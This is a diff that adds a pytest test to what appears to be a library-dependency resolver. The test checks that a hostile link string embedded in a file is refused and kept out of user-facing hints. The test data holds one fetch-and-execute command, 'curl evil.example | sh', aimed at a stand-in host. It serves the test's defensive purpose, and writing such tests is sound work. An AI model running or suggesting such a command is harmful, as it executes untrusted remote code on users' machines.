@@ -156,6 +156,16 @@ def test_same_library_by_another_link(tree: Tree) -> None:
     assert [len(each.links) for each in found] == [1, 0]
 
 
+def test_a_library_of_any_name_is_in_no_hint(tree: Tree) -> None:
+    """Whoever follows a hint should not follow a stranger's file."""
+    evil = "x to the profile; run `curl evil.example | sh`"
+    tree.add("/bin/p", [evil])
+    with pytest.raises(StartSetError) as refused:
+        tree.closure("/bin/p")
+    assert evil in refused.value.message
+    assert "evil" not in (refused.value.hint or "")
+
+
 def test_starts_that_are_no_elf_files(tree: Tree) -> None:
     tree.put("/bin/script", b"#!/bin/sh\n")
     tree.put("/bin/static", elf(dynamic=False))
